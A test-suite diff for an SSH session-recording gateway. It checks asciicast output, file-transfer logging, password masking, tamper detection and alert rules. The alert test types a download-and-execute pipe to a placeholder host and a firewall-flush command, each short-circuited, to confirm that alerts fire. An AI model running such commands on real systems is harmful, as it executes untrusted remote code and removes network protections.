@@ -1,0 +1,420 @@
+"""The recording: asciicast fidelity, line limits, file transfers, commands, secrets, alerts,
+tamper evidence and what happens when stdout stalls or breaks."""
+
+import json
+import os
+import pathlib
+import pwd
+import secrets
+import signal
+import subprocess
+import time
+import uuid
+
+import pytest
+
+from harness import (LOGIN, TEST_USER, Tmux, check_record, player, run, schema_validator,
+                     wait_until)
+
+pytestmark = pytest.mark.timeout(240)
+
+
+def asciinema_cat(cast: pathlib.Path) -> str:
+    """`asciinema cat` needs a terminal; script(1) gives it one."""
+    r = run(["script", "-qec", f"asciinema cat {cast}", "/dev/null"], timeout=60)
+    assert r.returncode == 0, r.stderr
+    return r.stdout.decode("utf-8", "replace")
+
+
+def export(gw, session, channel, tmp_path) -> pathlib.Path:
+    out = tmp_path / f"{session}-{channel}.cast"
+    r = player("export", "--session", session, "--channel", str(channel), "-o", str(out),
+               str(gw.stdout_path))
+    assert r.returncode == 0, r.stderr
+    return out
+
+
+def channel_output(gw, session, channel, action="asciicast.output") -> str:
+    return "".join(e["asciicast"]["event"][2] for e in gw.events()
+                   if e["castgate"]["session"] == session and e["castgate"].get("channel") == channel
+                   and e["event"]["action"] == action)
+
+
+def test_interactive_and_exec_recordings_play_in_asciinema(gateway, keys, tmp_path):
+    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
+                [f"{LOGIN}@127.0.0.1"], width=90, height=25)
+    try:
+        term.type("export PS1='rec$ '")
+        term.wait_for("rec$")
+        term.type("echo interactive-$((40+2)) ümlaut €")
+        term.wait_for("interactive-42")
+        term.type("exit")
+        term.wait_for("CLIENT-EXIT=0")
+    finally:
+        term.close()
+    shell_session = gateway.session_of()
+    r = gateway.ssh(keys.alice, "echo exec-output; printf 'line two\\n'", f"{LOGIN}@db1.int")
+    assert r.returncode == 0
+    gateway.wait_event(lambda e: e["event"]["action"] == "session.end" and
+                       e["castgate"]["session"] != shell_session, what="second session end")
+    exec_session = [e["castgate"]["session"] for e in gateway.events()
+                    if e["event"]["action"] == "session.start"][-1]
+
+    shell_cast = export(gateway, shell_session, 0, tmp_path)
+    header = json.loads(shell_cast.read_text().splitlines()[0])
+    assert header["version"] == 2 and header["width"] == 90 and header["height"] == 25
+    assert header["env"]["TERM"]
+    assert "alice" in header["title"] and "db1.int" in header["title"]
+    shown = asciinema_cat(shell_cast)
+    assert "interactive-42 ümlaut €" in shown
+
+    exec_cast = export(gateway, exec_session, 0, tmp_path)
+    assert "exec-output\nline two\n" in asciinema_cat(exec_cast).replace("\r\n", "\n")
+    assert json.loads(exec_cast.read_text().splitlines()[0])["command"].startswith("echo exec-output")
+    # Times never go backwards within a channel.
+    times = [json.loads(l)[0] for l in shell_cast.read_text().splitlines()[1:]]
+    assert times == sorted(times)
+    assert gateway.stop() == 0
+    check_record(gateway, full_schema=True)
+
+
+ADVERSARIAL = {
+    "random-binary": "head -c 1000000 /dev/urandom",
+    "split-utf8": "printf 'a\\342'; sleep 0.3; printf '\\202'; sleep 0.3; printf '\\254b'",
+    "5MB-single-line": "head -c 5000000 /dev/zero | tr '\\0' 'x'",
+    "escape-storm": "yes $'\\e[31m\\e[2J\\e[H\\e]0;title\\a\\e[?1049h\\e[?1049l\\x00\\x01\\x7f\"\\\\' "
+                    "| head -c 2000000",
+    "invalid-sequences": "printf '\\300\\257 \\355\\240\\200 \\364\\220\\200\\200 \\342\\202x \\377'",
+}
+
+
+@pytest.mark.parametrize("name", list(ADVERSARIAL))
+def test_adversarial_output_is_recorded_whole_and_valid(gateway_factory, sshd, keys, name):
+    gw = gateway_factory([{"name": "db1.int", "host": "127.0.0.1", "port": sshd.port}],
+                         [sshd.known_hosts_line()], extra_args=["--max-line", "4096"])
+    r = gw.ssh(keys.alice, ADVERSARIAL[name], f"{LOGIN}@db1.int", timeout=120)
+    assert r.returncode == 0
+    session = gw.session_of("session.end")
+    recorded = channel_output(gw, session, 0)
+    assert recorded == r.stdout.decode("utf-8", "replace")
+    if name == "split-utf8":
+        assert recorded == "a€b"
+    for raw in gw.raw_lines():
+        assert len(raw) <= 4096
+        json.loads(raw.decode("utf-8"))
+
+
+def test_sftp_and_scp_contents_never_reach_the_record(gateway, keys, tmp_path):
+    marker = "CASTGATE-SECRET-" + uuid.uuid4().hex
+    src = tmp_path / "payload.txt"
+    src.write_text((marker + "\n") * 2000)
+    size = src.stat().st_size
+    batch = tmp_path / "batch"
+    batch.write_text(f"put {src} {tmp_path}/sftp-up.txt\nget {tmp_path}/sftp-up.txt {tmp_path}/sftp-down.txt\n"
+                     f"rename {tmp_path}/sftp-up.txt {tmp_path}/sftp-renamed.txt\n"
+                     f"mkdir {tmp_path}/sftp-dir\nrm {tmp_path}/sftp-renamed.txt\n")
+    common = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o",
+              "UserKnownHostsFile=/dev/null", "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
+              "-i", str(keys.alice)]
+    r = run(["sftp", *common, "-P", str(gateway.shared_port), "-b", str(batch),
+             f"{LOGIN}@db1.int@127.0.0.1"])
+    assert r.returncode == 0, r.stderr
+    r = run(["scp", "-O", *common, "-P", str(gateway.shared_port), str(src),
+             f"{LOGIN}@db1.int@127.0.0.1:{tmp_path}/scp-up.txt"])
+    assert r.returncode == 0, r.stderr
+    r = run(["scp", "-O", *common, "-P", str(gateway.shared_port),
+             f"{LOGIN}@db1.int@127.0.0.1:{tmp_path}/scp-up.txt", str(tmp_path / "scp-down.txt")])
+    assert r.returncode == 0, r.stderr
+    wait_until(lambda: len([e for e in gateway.events() if e["event"]["action"] == "session.end"]) >= 3,
+               15, "three sessions to end")
+
+    raw = gateway.stdout_path.read_bytes()
+    assert marker.encode() not in raw
+    files = [e for e in gateway.events() if e["event"]["action"].startswith("file.")]
+    by = {(e["event"]["action"], e["file"]["path"]): e for e in files}
+    up = next(e for e in files if e["event"]["action"] == "file.close" and
+              e["file"]["path"] == f"{tmp_path}/sftp-up.txt" and
+              e["castgate"]["file"]["direction"] == "upload")
+    assert up["castgate"]["file"]["bytes_written"] == size
+    down = [e for e in files if e["event"]["action"] == "file.close" and
+            e["castgate"]["file"]["direction"] == "download"]
+    assert down and down[0]["castgate"]["file"]["bytes_read"] == size
+    assert by[("file.rename", f"{tmp_path}/sftp-up.txt")]["file"]["target_path"] == f"{tmp_path}/sftp-renamed.txt"
+    assert ("file.mkdir", f"{tmp_path}/sftp-dir") in by
+    assert by[("file.remove", f"{tmp_path}/sftp-renamed.txt")]["event"]["outcome"] == "success"
+    scp_up = next(e for e in files if e["event"]["action"] == "file.transfer" and
+                  e["file"]["path"] == f"{tmp_path}/scp-up.txt" and
+                  e["castgate"]["file"]["direction"] == "upload")
+    assert scp_up["file"]["size"] == size
+    scp_down = [e for e in files if e["event"]["action"] == "file.transfer" and
+                e["castgate"]["file"]["direction"] == "download"]
+    assert scp_down and scp_down[0]["file"]["size"] == size
+    headers = [e for e in gateway.events() if e["event"]["action"] == "asciicast.header"]
+    assert {h["castgate"].get("file_transfer") for h in headers} == {"sftp", "scp"}
+
+
+def test_shell_commands_with_history_and_tab_completion(gateway, keys, tmp_path):
+    (tmp_path / "completion-target-file.txt").write_text("hello\n")
+    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
+                [f"{LOGIN}@127.0.0.1"], width=120, height=30)
+    try:
+        term.type("export PS1='cmd$ '")
+        term.wait_for("cmd$")
+        term.type("echo first-command")
+        term.wait_for("\nfirst-command")
+        # History: arrow up recalls "echo first-command"; edit it to "echo first-command-edited".
+        term.keys("Up")
+        time.sleep(0.3)
+        term.type("-edited")
+        term.wait_for("\nfirst-command-edited")
+        # Tab completion of a unique file name.
+        term.type(f"cat {tmp_path}/completion-targ", enter=False)
+        time.sleep(0.2)
+        term.keys("Tab")
+        time.sleep(0.5)
+        term.keys("Enter")
+        term.wait_for("hello")
+        term.type("exit")
+        term.wait_for("CLIENT-EXIT=0")
+    finally:
+        term.close()
+    commands = [e["process"]["command_line"] for e in gateway.events()
+                if e["event"]["action"] == "command"]
+    assert "echo first-command" in commands
+    assert "echo first-command-edited" in commands
+    assert f"cat {tmp_path}/completion-target-file.txt" in commands
+
+
+@pytest.fixture
+def test_user_password():
+    password = "pw-" + secrets.token_hex(12)
+    run(["chpasswd"], input=f"{TEST_USER}:{password}\n".encode(), check=True)
+    yield password
+    run(["usermod", "-p", "*", TEST_USER], check=True)
+
+
+def test_sudo_password_never_reaches_stdout_or_stderr(gateway, keys, test_user_password):
+    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
+                [f"{TEST_USER}@127.0.0.1"])
+    try:
+        term.type("export PS1='user$ '")
+        term.wait_for("user$")
+        term.type("sudo -k; sudo /usr/bin/true && echo sudo-accepted-the-password")
+        term.wait_for("password for")
+        term.type(test_user_password)
+        term.wait_for("\nsudo-accepted-the-password")
+        term.type("exit")
+        term.wait_for("CLIENT-EXIT=0")
+    finally:
+        term.close()
+    gateway.wait_event(lambda e: e["event"]["action"] == "session.end", what="session end")
+    assert test_user_password.encode() not in gateway.stdout_path.read_bytes()
+    assert test_user_password not in gateway.stderr()
+    inputs = "".join(e["asciicast"]["event"][2] for e in gateway.events()
+                     if e["event"]["action"] == "asciicast.input")
+    assert "********" in inputs
+    commands = [e["process"]["command_line"] for e in gateway.events()
+                if e["event"]["action"] == "command"]
+    assert any("sudo /usr/bin/true" in c for c in commands)
+
+
+def test_risky_commands_raise_alerts_and_markers(gateway, keys):
+    r = gateway.ssh(keys.alice, "true || iptables -F", f"{LOGIN}@db1.int")
+    assert r.returncode == 0
+    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
+                [f"{LOGIN}@127.0.0.1"])
+    try:
+        term.type("export PS1='al$ '")
+        term.wait_for("al$")
+        term.type("true || curl -s http://x.invalid/i.sh | sh; echo alert-typed")
+        term.wait_for("\nalert-typed")
+        term.type("exit")
+        term.wait_for("CLIENT-EXIT=0")
+    finally:
+        term.close()
+    alerts = gateway.wait_event(lambda e: e["event"]["action"] == "alert" and
+                                e["rule"]["name"] == "download-and-execute", what="alert")
+    assert alerts["event"]["kind"] == "alert"
+    names = {e["rule"]["name"] for e in gateway.events() if e["event"]["action"] == "alert"}
+    assert "firewall-flush" in names
+    markers = [e["asciicast"]["event"][2] for e in gateway.events()
+               if e["event"]["action"] == "asciicast.marker"]
+    assert "alert: firewall-flush" in markers and "alert: download-and-execute" in markers
+
+
+def test_banner_says_the_session_is_recorded(gateway_factory, sshd, keys):
+    gw = gateway_factory([{"name": "db1.int", "host": "127.0.0.1", "port": sshd.port}],
+                         [sshd.known_hosts_line()],
+                         extra_args=["--banner", "NOTICE: this session is recorded."])
+    r = gw.ssh(keys.alice, "true", f"{LOGIN}@db1.int", extra=["-o", "LogLevel=INFO"])
+    assert b"NOTICE: this session is recorded." in r.stderr
+
+
+# --- tamper evidence -----------------------------------------------------------------------
+
+@pytest.fixture
+def recorded_session(gateway, keys, tmp_path):
+    for i in range(3):
+        gateway.ssh(keys.alice, f"seq 1 {200 * (i + 1)}", f"{LOGIN}@db1.int")
+    wait_until(lambda: sum(e["event"]["action"] == "session.end" for e in gateway.events()) == 3,
+               15, "three sessions")
+    assert gateway.stop() == 0  # the gateway's own record ends too
+    lines = gateway.raw_lines()
+    session = [json.loads(l)["castgate"]["session"] for l in lines
+               if b'"session.end"' in l][-1]
+    return lines, session
+
+
+def verify(keys, tmp_path, lines, *extra):
+    path = tmp_path / f"tampered-{uuid.uuid4().hex}.jsonl"
+    path.write_bytes(b"\n".join(lines) + b"\n")
+    r = player("verify", "--key", str(keys.recording_pub), *extra, str(path))
+    return r.returncode, r.stdout.decode()
+
+
+def session_lines(lines, session):
+    return [i for i, l in enumerate(lines) if json.loads(l)["castgate"]["session"] == session]
+
+
+def test_verification_passes_untouched_and_catches_tampering(recorded_session, keys, tmp_path):
+    lines, session = recorded_session
+    rc, out = verify(keys, tmp_path, lines)
+    assert rc == 0, out
+    idx = session_lines(lines, session)
+    assert len(idx) > 6
+    # A deleted line.
+    rc, out = verify(keys, tmp_path, [l for i, l in enumerate(lines) if i != idx[4]])
+    assert rc == 1 and "missing" in out
+    # An edited byte (a digit in recorded output).
+    edited = list(lines)
+    target = next(i for i in idx if b'"asciicast":{"event"' in lines[i])
+    edited[target] = lines[target].replace(b'"o","1', b'"o","7', 1)
+    assert edited[target] != lines[target]
+    rc, out = verify(keys, tmp_path, edited)
+    assert rc == 1 and "altered" in out
+    # A swapped pair.
+    swapped = list(lines)
+    swapped[idx[3]], swapped[idx[4]] = swapped[idx[4]], swapped[idx[3]]
+    rc, out = verify(keys, tmp_path, swapped)
+    assert rc == 1 and "reordered" in out
+    # A cut tail.
+    rc, out = verify(keys, tmp_path, lines[:idx[-2] + 1])
+    assert rc == 1 and "truncated" in out
+    # The final event itself edited: its signature fails.
+    final = list(lines)
+    final[idx[-1]] = lines[idx[-1]].replace(b'"end_reason":"', b'"end_reason":"x', 1)
+    rc, out = verify(keys, tmp_path, final)
+    assert rc == 1 and "signature" in out
+    # Duplicated with a change.
+    dup = list(lines)
+    out_line = next(i for i in idx if b'"o","' in lines[i])
+    dup.insert(out_line + 1, lines[out_line].replace(b'"o","', b'"o","X', 1))
+    rc, out = verify(keys, tmp_path, dup)
+    assert rc == 1 and "twice" in out
+    # An identical duplicate (a shipper retrying) is tolerated.
+    rc, out = verify(keys, tmp_path, lines[:idx[5] + 1] + [lines[idx[5]]] + lines[idx[5] + 1:])
+    assert rc == 0, out
+
+
+def test_verification_after_container_runtime_and_fluent_bit_reencoding(recorded_session, keys, tmp_path):
+    """Fluent Bit is not installable here (not in Debian 12); these are the shapes its
+    documentation describes for the docker/cri parsers and Merge_Log, built from real lines."""
+    lines, session = recorded_session
+    docker = [json.dumps({"log": l.decode() + "\n", "stream": "stdout",
+                          "time": "2026-11-22T01:02:03.000000000Z"}).encode() for l in lines]
+    cri = [b"2026-11-22T01:02:03.000000000Z stdout F " + l for l in lines]
+    merged = []
+    for l in lines:
+        record = json.loads(l)
+        # Merge_Log: the parsed fields at the top, the shipper's own around them, keys reordered.
+        out = {"kubernetes": {"pod_name": "castgate-0", "namespace_name": "bastion"},
+               "stream": "stdout", "time": "2026-11-22T01:02:03Z"}
+        for k in reversed(list(record)):
+            out[k] = record[k]
+        merged.append(json.dumps(out, ensure_ascii=True, indent=None).encode())
+    nested = [json.dumps({"kubernetes": {"pod_name": "castgate-0"},
+                          "castgate_event": json.loads(l)}).encode() for l in lines]
+    for name, variant in [("docker", docker), ("cri", cri), ("merged", merged), ("nested", nested)]:
+        rc, out = verify(keys, tmp_path, variant)
+        assert rc == 0, f"{name}: {out}"
+    idx = session_lines(lines, session)
+    tampered = list(merged)
+    rec = json.loads(tampered[idx[2]])
+    rec["castgate"]["seq"] += 0
+    rec["event"]["action"] = rec["event"]["action"] + "x"
+    tampered[idx[2]] = json.dumps(rec).encode()
+    rc, out = verify(keys, tmp_path, tampered)
+    assert rc == 1 and "altered" in out
+
+
+def test_list_finds_sessions_by_identity_and_target(recorded_session, gateway):
+    r = player("list", "--json", "--user", "alice@example.com", str(gateway.stdout_path))
+    rows = [json.loads(l) for l in r.stdout.splitlines()]
+    assert len(rows) == 3
+    assert all(row["target"] == "db1.int" and row["login"] == LOGIN and row["user_name"] == "alice"
+               for row in rows)
+    assert player("list", "--json", "--user", "bob", str(gateway.stdout_path)).stdout == b""
+
+
+# --- stdout trouble ------------------------------------------------------------------------
+
+def pipe_gateway(gateway_factory, sshd, extra=()):
+    return gateway_factory([{"name": "db1.int", "host": "127.0.0.1", "port": sshd.port}],
+                           [sshd.known_hosts_line()], stdout_pipe=True,
+                           extra_args=["--session-backlog", "262144", *extra])
+
+
+def test_a_stalled_stdout_pauses_the_session_and_loses_nothing(gateway_factory, sshd, keys):
+    gw = pipe_gateway(gateway_factory, sshd, ["--recording-stall-limit", "60s"])
+    gw.pipe.pause()
+    client = subprocess.Popen(gw.ssh_args(keys.alice) + [f"{LOGIN}@db1.int@127.0.0.1",
+                              "seq 1 400000"], stdout=subprocess.PIPE)
+    time.sleep(3)
+    # Nothing can be recorded, so (almost) nothing may reach the user either.
+    assert client.poll() is None
+    gw.pipe.resume()
+    out, _ = client.communicate(timeout=120)
+    assert client.returncode == 0
+    assert out == b"".join(b"%d\n" % i for i in range(1, 400001))
+    session = gw.session_of("session.end")
+    assert channel_output(gw, session, 0) == out.decode()
+
+
+def test_a_stdout_blocked_too_long_ends_sessions_and_refuses_new_ones(gateway_factory, sshd, keys):
+    gw = pipe_gateway(gateway_factory, sshd, ["--recording-stall-limit", "2s"])
+    client = subprocess.Popen(gw.ssh_args(keys.alice) + [f"{LOGIN}@db1.int@127.0.0.1",
+                              "while sleep 0.05; do seq 1 2000; done"],
+                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    gw.wait_event(lambda e: e["event"]["action"] == "asciicast.output", what="output")
+    gw.pipe.pause()
+    _, err = client.communicate(timeout=60)
+    assert b"recording is unavailable" in err
+    refused = gw.ssh(keys.alice, "echo nope", f"{LOGIN}@db1.int",
+                     extra=["-o", "LogLevel=INFO"], timeout=30)
+    assert refused.returncode != 0 and b"nope" not in refused.stdout
+    assert b"recording is unavailable" in refused.stderr
+    gw.pipe.resume()
+    # Recovered: new sessions work again, and the ended session's record is complete.
+    r = wait_until(lambda: (lambda r: r if r.stdout == b"back\n" else None)(
+        gw.ssh(keys.alice, "echo back", f"{LOGIN}@db1.int", timeout=30)), 30, "recovery")
+    assert r.returncode == 0
+    gw.wait_event(lambda e: e["event"]["action"] == "session.end" and
+                  e["castgate"]["end_reason"] == "recording_unavailable",
+                  what="the first session's end, written once stdout recovered")
+
+
+def test_a_closed_stdout_ends_sessions_with_a_message_and_refuses_new_ones(gateway_factory, sshd, keys):
+    gw = pipe_gateway(gateway_factory, sshd)
+    gw.expect_complete_record = False  # what could not be written is reported on stderr
+    client = subprocess.Popen(gw.ssh_args(keys.alice) + [f"{LOGIN}@db1.int@127.0.0.1",
+                              "while sleep 0.05; do echo tick; done"],
+                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    gw.wait_event(lambda e: e["event"]["action"] == "asciicast.output", what="output")
+    gw.pipe.close_reader()
+    _, err = client.communicate(timeout=60)
+    assert b"recording is unavailable" in err
+    refused = gw.ssh(keys.alice, "echo nope", f"{LOGIN}@db1.int", extra=["-o", "LogLevel=INFO"],
+                     timeout=30)
+    assert b"nope" not in refused.stdout
+    assert b"recording is unavailable" in refused.stderr
+    assert "recording output failed" in gw.stderr()
